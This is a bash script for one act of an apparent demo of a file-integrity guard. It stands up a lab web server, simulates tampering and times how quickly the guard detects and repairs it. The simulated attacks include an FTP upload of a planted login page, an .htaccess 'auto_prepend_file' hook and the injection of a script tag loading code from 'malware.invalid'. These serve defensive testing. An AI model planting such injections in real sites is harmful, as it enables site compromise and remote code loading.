# shellcheck shell=bash
# guard_act.sh - act 4 of the demo: a server under guard, and somebody with the upload password. Sourced by demo.sh.
# shellcheck disable=SC2154 # word_...: in words.LANGUAGE.sh; $service, $known, $log ...: in demo.sh
# shellcheck source-path=SCRIPTDIR
# shellcheck source=upload.sh
. "$here/upload.sh"

# What is under guard lies on a file system of its own: whoever is asked before every open and read should be asked for
# nobody else's. In a container that may not mount a file as a disk the act is left out, with a word.
act4_disk()
{
        truncate -s 64M disk.img && mkfs.ext4 -q disk.img && mkdir -p guarded && mount -o loop disk.img guarded
}

# count_guarded FROM [TO]: pages received, of these tampered, and answers that were no page (an open was refused).
count_guarded()
{
        awk -v from="$1" -v to="${2:-0}" '
                NR == FNR { known[$1] = $2; next }
                FNR <= from || (to && FNR > to) { next }
                $2 != 200 { refused++; next }
                { pages++ }
                !($5 in known) || known[$5] != $4 { tampered++ }
                END { print pages + 0, tampered + 0, refused + 0 }' "$known" "$log"
}

act4_servers()
{
        local server=$LAB_FOLDER/server-guarded
        rm -rf foreign-repository && mv repository foreign-repository && mv repository.genuine repository || return
        lab_host guarded 192.0.2.79 && lab_host intruder 192.0.2.66 || return
        # The pages belong to the account that uploads them, as they did then.
        understudy_run publisher publish production/site --repo repository --key keys/release.key --owner 4711:4711 &&
                mkdir -p guarded/www &&
                understudy_run guarded pull guarded/www/site --repo http://192.0.2.70 --pub release.pub || return
        upload_account www-upload 4711 secret "$LAB_FOLDER/guarded/www/site" && upload_ftp guarded || return
        lab_serve guarded "$LAB_FOLDER/guarded/www/site" || return
        command_line understudy guard guarded/www/site --repo http://192.0.2.70 --pub release.pub --reload '...'
        : >guard.out
        UNDERSTUDY_STATE=$LAB_FOLDER/guarded/state lab_in guarded "$UNDERSTUDY" --lang en guard guarded/www/site \
                --repo http://192.0.2.70 --pub release.pub \
                --reload "kill -HUP $(cat "$server/nginx.pid"); kill -USR2 $(cat "$server/php-fpm.pid")" \
                >guard.out 2>guard.err </dev/null &
        act4_guard=$!
        act4_wait 10 grep -qx ready guard.out
}

# act4_wait SECONDS COMMAND...
act4_wait()
{
        local end=$((${EPOCHREALTIME/./} + $1 * 1000000))
        shift
        until "$@"; do
                [[ ${EPOCHREALTIME/./} -lt $end ]] || return 1
                sleep 0.02
        done
}

# The guard's own records since the attack began, oldest first.
act4_records()
{
        UNDERSTUDY_STATE=$LAB_FOLDER/guarded/state "$UNDERSTUDY" journal show --json 2>/dev/null |
                jq -c --arg since "$act4_since" 'select(.time >= $since)'
}
act4_found() { act4_records | jq -e -s --arg path "$1" 'any(.kind == "finding" and .path == $path)' >/dev/null; }
act4_healed() { act4_records | jq -e -s 'any(.kind == "healed")' >/dev/null; }
act4_genuine() { UNDERSTUDY_STATE=$LAB_FOLDER/guarded/state "$UNDERSTUDY" status guarded/www/site --quiet >/dev/null 2>&1; }

microseconds() { date -u -d "$1" +%s%6N; }

# attack WORDS PATH COMMAND...: runs it, and shows a line of what became of it.
attack()
{
        local words=$1 path=$2 from began found healed who numbers
        shift 2
        from=$(position)
        act4_since=$(date -u +%Y-%m-%dT%H:%M:%S.%6NZ)
        began=$(microseconds "$act4_since")
        "$@" >>attacks.out 2>&1
        act4_wait 10 act4_found "$path" || act4_good=false
        act4_wait 20 act4_healed || act4_good=false
        act4_wait 20 act4_genuine || act4_good=false
        sleep 0.3
        found=$(act4_records | jq -r --arg path "$path" 'select(.kind == "finding" and .path == $path) | .time' | head -n 1)
        # What could not be written at all needs no new tree: then a look at the whole was the end of it.
        healed=$(act4_records | jq -r 'select(.kind == "guard_release" or .kind == "healed") | .time' | head -n 1)
        who=$(act4_records | jq -r --arg path "$path" 'select(.kind == "who" and .path == $path) | .what' |
                sed -n 's/.* was changed by //p' | head -n 1)
        numbers=$(count_guarded "$from")
        step '%s' "$words"
        # shellcheck disable=SC2059,SC2086
        step "    $word_attack" "$((($(microseconds "$found") - began) / 1000))" "$((($(microseconds "$healed") - began) / 1000))" \
                $numbers
        # shellcheck disable=SC2059
        quote "$(printf "$word_attack_who" "${who:-$word_attack_nobody}")"
        act4_attacks+=("$path" "${found:+$((($(microseconds "$found") - began) / 1000))}" "${healed:+$((($(microseconds "$healed") - began) / 1000))}" "$who")
}

# He opened the file a moment ago, as a program of his that goes on running would.
old_descriptor()
{
        setpriv --reuid 4711 --regid 4711 --clear-groups bash -c '
                exec 8>>"$1"
                sleep 0.2
                echo "<script src=\"http://malware.invalid/x.js\"></script>" >&8
                sleep 0.3' bash guarded/www/site/prices.html
}

act4()
{
        local htaccess=htaccess
        heading "$word_act4"
        act4_good=true act4_attacks=()
        act4_start=$(position) act4_end=$act4_start
        if ! command -v vsftpd >/dev/null || ! act4_disk 2>words; then
                step "$word_act4_left_out"
                act4_good=left-out
                return
        fi
        act4_servers || fail 3 "$(cat words guard.err 2>/dev/null | tail -n 3)"
        step "$word_guarded"
        lab_address_move "$service" production guarded || fail 3 "$service"
        wait_until_served_by guarded
        act4_start=$(position)
        step "$word_intruder_ftp"
        attack "$word_attack_page" login/index.html upload_by ftp intruder 192.0.2.79 www-upload secret planted.html \
                "$LAB_FOLDER/guarded/www/site/login/index.html"
        echo 'php_value auto_prepend_file /tmp/x.php' >"$htaccess"
        attack "$word_attack_htaccess" .htaccess upload_by ftp intruder 192.0.2.79 www-upload secret "$htaccess" \
                "$LAB_FOLDER/guarded/www/site/.htaccess"
        attack "$word_attack_descriptor" prices.html old_descriptor
        act4_end=$(position)
        lab_address_move "$service" guarded production || fail 3 "$service"
        kill "$act4_guard"
        wait "$act4_guard"
        read -r _ act4_tampered _ < <(count_guarded "$act4_start" "$act4_end")
        [[ $act4_tampered -eq 0 ]] || act4_good=false
        umount -l guarded/.. 2>/dev/null
        return 0
}

# For --json.
act4_json()
{
        local numbers
        read -ra numbers < <(count_guarded "$act4_start" "$act4_end")
        jq -n --arg good "$act4_good" '{good: $good, pages: $ARGS.positional[0], tampered: $ARGS.positional[1], refused: $ARGS.positional[2]}' \
                --jsonargs "${numbers[@]}" |
                jq --args '.attacks = [$ARGS.positional | _nwise(4) | {path: .[0], found_ms: .[1], healed_ms: .[2], who: .[3]}]' \
                        "${act4_attacks[@]}"
}
